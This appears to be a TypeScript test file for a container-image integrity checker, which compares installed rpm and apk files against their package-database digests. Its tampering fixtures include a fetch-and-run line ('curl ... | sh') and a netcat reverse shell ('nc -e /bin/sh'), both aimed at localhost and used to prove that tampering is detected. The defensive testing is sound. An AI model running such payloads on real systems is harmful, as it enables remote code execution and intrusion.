// The integrity cross-check for apk and rpm: each file against the digest its package database
// records, on a real rpm install (rpmbuild + rpm into a root, sqlite database), real rpm databases
// of three formats from the corpus, the real Alpine 3.10 installed database, and apk databases
// written at test time in apk-tools' published format. Tampered file → finding; untouched → none.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { analyzeLayer } from "../../../shared/analysis/analyze-layer.js";
import { contentAnalyzers } from "../../../shared/analysis/content/index.js";
import { parseApkDigests, readRpmDigests } from "../../../shared/analysis/content/package-digests.js";
import { squashLayers } from "../../../shared/analysis/squash.js";
import { type ContentFact, ContentFactSchema } from "../../../shared/model/content.js";
import { DEFAULT_LIMITS } from "../../../shared/model/limits.js";
import { type Entry, fixture, layerBlob, streamOf } from "../layers.js";
import { installedRpmRoot, RPM_ROOT_FILES } from "./support/rpm-root.js";

async function contentOf(layers: Entry[][]) {
  const analyzers = contentAnalyzers(undefined);
  const reports = [];
  for (const entries of layers) {
    const { bytes, ref } = await layerBlob(entries);
    reports.push(await analyzeLayer(streamOf(bytes), ref, { analyzers, limits: DEFAULT_LIMITS }));
  }
  const squashed = squashLayers(reports, { analyzers });
  return { fact: ContentFactSchema.parse(squashed.facts.content), reports };
}

const integrity = (fact: ContentFact) => fact.findings.filter((f) => f.category === "integrity");

describe("rpm integrity (a real rpmbuild package installed by rpm)", () => {
  it("finds nothing in the untouched install, and names the data file it could not hash", async () => {
    const root = await installedRpmRoot();
    const { fact } = await contentOf([RPM_ROOT_FILES.map((name) => ({ name, content: root.get(name)! }))]);
    expect(integrity(fact)).toEqual([]);
    // the 40 kB text file is not an executable, script or small file: no SHA-256 was taken
    expect(fact.warnings?.filter((w) => w.code === "integrity-unverified").map((w) => w.message)).toEqual([
      expect.stringMatching(/^\/var\/lib\/rpm\/rpmdb\.sqlite: 1 file it lists was not hashed/),
    ]);
  });

  it("reports a replaced executable with both digests; an edited %config file is the admin's", async () => {
    const root = await installedRpmRoot();
    const base = RPM_ROOT_FILES.map((name) => ({ name, content: root.get(name)! }));
    const { fact, reports } = await contentOf([
      base,
      [
        { name: "usr/bin/portcullis-hello", content: "#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n" },
        { name: "etc/portcullis-hello.conf", content: "greeting=bonjour\n" },
      ],
    ]);
    const found = integrity(fact);
    expect(found).toHaveLength(1);
    const sha256 = (s: string) => createHash("sha256").update(s).digest("hex");
    expect(found[0]).toMatchObject({
      rule: "integrity/rpm-digest",
      path: "/usr/bin/portcullis-hello",
      layer: reports[1]!.digest,
      sha256: sha256("#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n"),
      summary: expect.stringContaining(
        "package portcullis-hello installed: the package database does not match",
      ),
    });
    expect(found[0]!.evidence.join("\n")).toContain(`SHA256 ${sha256("#!/bin/sh\necho hello\n")}`);
  });
});

describe("rpm databases of the corpus (Berkeley DB, sqlite, ndb)", () => {
  it.each([
    ["pkgdb/rpm/go-rpmdb/cbl-mariner-2.0/rpmdb.sqlite", "sha256"],
    ["pkgdb/rpm/go-rpmdb/sle15-bci/Packages.db", "sha256"],
    ["pkgdb/rpm/syft/Packages", undefined],
  ] as const)("reads every file digest of %s", async (name, algo) => {
    const record = await readRpmDigests(await fixture(name));
    expect(record.unreadable).toBeUndefined();
    expect(record.packages.length).toBeGreaterThan(0);
    const length = { md5: 32, sha1: 40, sha256: 64, sha384: 96, sha512: 128 };
    for (const pkg of record.packages) {
      if (algo) expect(pkg.algo).toBe(algo);
      for (const [path, digest] of [...pkg.files, ...(pkg.config ?? [])]) {
        expect(path).toMatch(/^[^/]/);
        expect(digest).toHaveLength(length[pkg.algo]);
      }
    }
  });

  it("counts a database it cannot read, and a damaged header, instead of failing", async () => {
    expect((await readRpmDigests(Buffer.from("not a database"))).unreadable).toBe(1);
    const real = await fixture("pkgdb/rpm/go-rpmdb/sle15-bci/Packages.db");
    const damaged = Buffer.from(real);
    damaged.fill(0xff, 4096, 8192);
    const record = await readRpmDigests(damaged);
    expect(record.unreadable ?? 0).toBeGreaterThan(0);
  });
});

const q1 = (content: string) => `Q1${createHash("sha1").update(content).digest("base64")}`;

/** An apk installed database in the format apk-tools writes. */
function apkInstalled(packages: { name: string; version?: string; files: [string, string][] }[]): string {
  return packages
    .map(({ name, version, files }) => {
      const lines = [`C:Q1${"A".repeat(27)}=`, `P:${name}`, `V:${version ?? "1.0-r0"}`, "A:x86_64"];
      let dir: string | undefined;
      for (const [path, content] of files) {
        const slash = path.lastIndexOf("/");
        const d = path.slice(0, slash);
        if (d !== dir) lines.push(`F:${d}`);
        dir = d;
        lines.push(`R:${path.slice(slash + 1)}`, "a:0:0:755", `Z:${q1(content)}`);
      }
      return `${lines.join("\n")}\n`;
    })
    .join("\n");
}

describe("apk integrity", () => {
  it("decodes every checksum of the real Alpine 3.10.4 database as SHA-1", async () => {
    const text = (await fixture("pkgdb/apk/trivy-alpine-3.10.4/lib/apk/db/installed")).toString("utf8");
    const record = parseApkDigests(text);
    expect(record.unreadable).toBeUndefined();
    const files = record.packages.flatMap((p) => [...p.files, ...(p.config ?? [])]);
    expect(files).toHaveLength((text.match(/^Z:/gm) ?? []).length);
    expect(record.packages.map((p) => p.algo)).toEqual(record.packages.map(() => "sha1"));
    expect(record.packages.find((p) => p.name === "musl")?.files).toContainEqual([
      "lib/ld-musl-x86_64.so.1",
      Buffer.from("TTLtUopPeiF9JrA0cgKQZYggG+c=", "base64").toString("hex"),
    ]);
    // etc/ is apk's protected path: users edit it
    expect(record.packages.find((p) => p.name === "alpine-baselayout")?.config?.map(([p]) => p)).toContain(
      "etc/passwd",
    );
  });

  const tool = "#!/bin/sh\necho tool\n";
  const motd = "Welcome to Alpine!\n";
  const base: Entry[] = [
    { name: "usr/bin/tool", content: tool },
    { name: "etc/motd", content: motd },
    {
      name: "lib/apk/db/installed",
      content: apkInstalled([
        { name: "tool", files: [["usr/bin/tool", tool]] },
        { name: "alpine-base", files: [["etc/motd", motd]] },
      ]),
    },
  ];

  it("finds nothing when the files are as apk installed them", async () => {
    const { fact } = await contentOf([base]);
    expect(integrity(fact)).toEqual([]);
    expect(fact.warnings ?? []).toEqual([]);
  });

  it("reports a file replaced in a later layer; an edited etc/ file is not tampering", async () => {
    const { fact } = await contentOf([
      base,
      [
        { name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 4444\n" },
        { name: "etc/motd", content: "hello\n" },
      ],
    ]);
    expect(integrity(fact).map((f) => [f.rule, f.path])).toEqual([["integrity/apk-digest", "/usr/bin/tool"]]);
    expect(integrity(fact)[0]!.evidence[0]).toContain(
      `SHA1 ${createHash("sha1").update(tool).digest("hex")}`,
    );
  });

  it("checks files of a layer that holds no apk database against the database a later layer writes", async () => {
    // a layer is analysed alone (and cached), so the base cannot know an apk database comes later
    const files = base.filter((e) => !e.name.startsWith("lib/apk/"));
    const database = base.filter((e) => e.name.startsWith("lib/apk/"));
    const clean = await contentOf([files, database]);
    expect(integrity(clean.fact)).toEqual([]);
    expect(clean.fact.warnings ?? []).toEqual([]);
    const edited = await contentOf([
      [{ name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 4444\n" }, files[1]!],
      database,
    ]);
    expect(integrity(edited.fact).map((f) => [f.rule, f.path, f.layer])).toEqual([
      ["integrity/apk-digest", "/usr/bin/tool", edited.reports[0]!.digest],
    ]);
  });

  it("reports a database edited to claim a fixed version while the files stay old; a real upgrade is not", async () => {
    const edited = await contentOf([
      base,
      [
        {
          name: "lib/apk/db/installed",
          content: apkInstalled([
            { name: "tool", version: "1.0-r5", files: [["usr/bin/tool", tool]] },
            { name: "alpine-base", files: [["etc/motd", motd]] },
          ]),
        },
      ],
    ]);
    expect(integrity(edited.fact)).toEqual([
      expect.objectContaining({
        rule: "integrity/apk-version",
        path: "/lib/apk/db/installed",
        layer: edited.reports[1]!.digest,
        summary:
          "the package database claims tool 1.0-r5, but the files installed are those of 1.0-r0: the package database does not match the files",
      }),
    ]);
    const upgraded = "#!/bin/sh\necho tool 1.0-r5\n";
    const real = await contentOf([
      base,
      [
        { name: "usr/bin/tool", content: upgraded },
        {
          name: "lib/apk/db/installed",
          content: apkInstalled([
            { name: "tool", version: "1.0-r5", files: [["usr/bin/tool", upgraded]] },
            { name: "alpine-base", files: [["etc/motd", motd]] },
          ]),
        },
      ],
    ]);
    expect(integrity(real.fact)).toEqual([]);
  });

  it("reads hostile databases without trusting them: bad checksums are counted, stray lines skipped", () => {
    const text = [
      "Z:Q1AAAA", // before any package or file
      "P:x",
      "R:orphan", // no F: line: a file at the root
      "Z:Q1notbase64!!",
      "F:usr/bin",
      "R:short",
      "Z:Q1AAAA", // decodes, but not to 20 bytes
      "R:ok",
      `Z:${q1("ok")}`,
      "garbage line without a colon",
      "\u0000:\u0001",
    ].join("\n");
    const record = parseApkDigests(text);
    expect(record.packages).toEqual([
      { name: "x", algo: "sha1", files: [["usr/bin/ok", createHash("sha1").update("ok").digest("hex")]] },
    ]);
    expect(record.unreadable).toBe(2);
    // a database of a million empty records stays one pass and keeps nothing
    expect(parseApkDigests("P:x\n\n".repeat(200_000)).packages).toEqual([]);
  });
});
